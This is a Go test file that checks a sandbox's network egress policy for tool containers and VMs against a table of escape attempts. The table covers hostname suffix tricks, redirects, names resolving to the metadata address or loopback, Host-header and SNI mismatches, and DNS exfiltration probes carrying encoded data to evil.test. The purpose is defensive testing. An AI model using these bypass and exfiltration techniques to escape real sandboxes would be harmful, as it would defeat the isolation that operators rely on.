package fakenet

import (
	"strings"
	"testing"
)

// The egress table every tier that gives tools a network runs (the Oci tier's containers, the
// microVM tier's VMs): one netprobe call under EgressPatterns tries every way out, and Check says
// what must have happened. One table, so that the tiers are held to the same promises.

// Probe is one operation of the netprobe tool (see netprobe/main.go's Op).
type Probe = map[string]string

// ProbeResult is netprobe's report of one Probe.
type ProbeResult struct {
	OK    bool     `json:"ok"`
	Err   string   `json:"err"`
	Body  string   `json:"body"`
	Addrs []string `json:"addrs"`
	MS    int64    `json:"ms"`
}

// EgressPatterns is the policy the table's tool runs under: names over TCP, a UDP grant, and a
// UDP grant into the deny set (10/8), which the deny set still refuses.
var EgressPatterns = []string{"**.allowed.test:80", "**.allowed.test:443", AllowedIP + "/32:7/udp", TenIP + "/32:53000/udp"}

// EgressCase is one way out, and whether the policy lets it through.
type EgressCase struct {
	Name string
	Op   Probe
	OK   bool
}

// EgressCases is the table: a tool allowed EgressPatterns reaches api.allowed.test over HTTP and
// TLS, and its UDP echo, and nothing else. The last case sends SNI that disagrees with its destination: it reaches
// api.allowed.test (the proxy dials the name) and never the destination (Check).
func (in *Internet) EgressCases() []EgressCase {
	other := "other.test"
	return []EgressCase{
		{"allowed name over http", Probe{"op": "http", "url": "http://api.allowed.test/"}, true},
		{"allowed name over https", Probe{"op": "http", "url": "https://api.allowed.test/", "ca": in.CA}, true},
		{"non-allowed name", Probe{"op": "http", "url": "http://" + other + "/"}, false},
		{"non-allowed name by its address, Host header", Probe{"op": "tcp", "addr": OtherIP + ":80", "host": other}, false},
		{"bare IP literal", Probe{"op": "http", "url": "http://" + OtherIP + "/"}, false},
		{"bare IP literal, allowed address", Probe{"op": "tcp", "addr": AllowedIP + ":80", "host": AllowedIP}, false},
		{"suffix trick evilallowed.test", Probe{"op": "http", "url": "http://evilallowed.test/"}, false},
		{"suffix trick allowed.test.evil.test", Probe{"op": "http", "url": "http://allowed.test.evil.test/"}, false},
		{"suffix trick by Host header", Probe{"op": "tcp", "addr": OtherIP + ":80", "host": "evilallowed.test"}, false},
		{"redirect to a denied host", Probe{"op": "http", "url": "http://api.allowed.test/redirect"}, false},
		{"allowed name resolving to the metadata address", Probe{"op": "http", "url": "http://meta.allowed.test/"}, false},
		{"allowed name resolving to loopback", Probe{"op": "http", "url": "http://local.allowed.test/"}, false},
		{"allowed name resolving to 10.x", Probe{"op": "http", "url": "http://ten.allowed.test/"}, false},
		{"metadata address directly", Probe{"op": "tcp", "addr": MetadataIP + ":80", "host": MetadataIP}, false},
		{"10.x directly", Probe{"op": "tcp", "addr": TenIP + ":80", "host": TenIP}, false},
		// An allowed Host header sent to another address reaches the allowed host (the proxy
		// dials the name), never the address.
		{"metadata address with an allowed Host", Probe{"op": "tcp", "addr": MetadataIP + ":80", "host": "api.allowed.test"}, true},
		{"10.x with an allowed Host", Probe{"op": "tcp", "addr": TenIP + ":80", "host": "api.allowed.test"}, true},
		{"allowed name on a port not granted", Probe{"op": "tcp", "addr": AllowedIP + ":8080", "host": "api.allowed.test"}, false},
		{"ipv6", Probe{"op": "tcp", "addr": "[2001:db8::10]:443"}, false},
		{"udp/quic to the allowed host", Probe{"op": "udp", "addr": AllowedIP + ":443"}, false},
		{"udp granted by a CIDR pattern", Probe{"op": "udp", "addr": AllowedIP + ":7"}, true},
		{"udp granted into the deny set, to a canary", Probe{"op": "udp", "addr": TenIP + ":53000"}, false},
		{"dns exfiltration by name", Probe{"op": "dns", "name": "c2VjcmV0.evil.test"}, false},
		{"dns TXT of an allowed name", Probe{"op": "dns", "name": "api.allowed.test", "type": "TXT"}, false},
		{"dns straight to the DNS server over udp", Probe{"op": "dnsat", "addr": DNSIP + ":53", "name": "c2VjcmV0Mg.evil.test"}, false},
		{"dns over tls to the DNS server", Probe{"op": "tcp", "addr": DNSIP + ":853"}, false},
		// SNI that disagrees with the destination: the handshake reaches api.allowed.test.
		{"sni disagreeing with the destination", Probe{"op": "tls", "addr": OtherIP + ":443", "sni": "api.allowed.test", "ca": in.CA}, true},
	}
}

// EgressOps are the cases' operations, in order.
func EgressOps(cases []EgressCase) []Probe {
	ops := make([]Probe, len(cases))
	for i, c := range cases {
		ops[i] = c.Op
	}
	return ops
}

// CheckEgress fails t for every case whose result is not what the policy allows, for a refusal
// slower than refuseMS (a tool fails fast, never hangs), for any canary hit, any query of the
// fake DNS server beyond the allowed names (none for exfiltration, no TXT), and for fewer than
// four requests served by api.allowed.test.
func (in *Internet) CheckEgress(t testing.TB, cases []EgressCase, res []ProbeResult, refuseMS int64) {
	t.Helper()
	if len(res) != len(cases) {
		t.Fatalf("%d results for %d cases", len(res), len(cases))
	}
	for i, c := range cases {
		r := res[i]
		t.Logf("%s: ok=%v in %d ms", c.Name, r.OK, r.MS)
		if r.OK != c.OK {
			t.Errorf("%s: ok=%v (err %q, body %q), want ok=%v", c.Name, r.OK, r.Err, r.Body, c.OK)
		}
		if c.OK && c.Op["op"] != "tls" && c.Op["op"] != "udp" && !strings.HasSuffix(r.Body, AllowedBody) {
			t.Errorf("%s: body %q", c.Name, r.Body)
		}
		if c.OK && c.Op["op"] == "udp" && r.Body != "echo probe" {
			t.Errorf("%s: answer %q, want the echo of the probe", c.Name, r.Body)
		}
		if c.OK && strings.Contains(r.Body, "canary") {
			t.Errorf("%s reached a canary: %q", c.Name, r.Body)
		}
		if !c.OK && r.MS > refuseMS {
			t.Errorf("%s: refused only after %d ms (%s)", c.Name, r.MS, r.Err)
		}
	}
	if h := in.Hits(); len(h) != 0 {
		t.Errorf("canaries hit: %v", h)
	}
	if q := in.QueriedOutside("api.allowed.test", "meta.allowed.test", "local.allowed.test", "ten.allowed.test"); len(q) != 0 {
		t.Errorf("the DNS server was asked %v", q)
	}
	for _, q := range in.Queries() {
		if strings.HasSuffix(q, " TXT") {
			t.Errorf("a TXT query reached the DNS server: %s", q)
		}
	}
	if in.AllowedServed() < 4 {
		t.Errorf("api.allowed.test served %d requests, want 4", in.AllowedServed())
	}
}
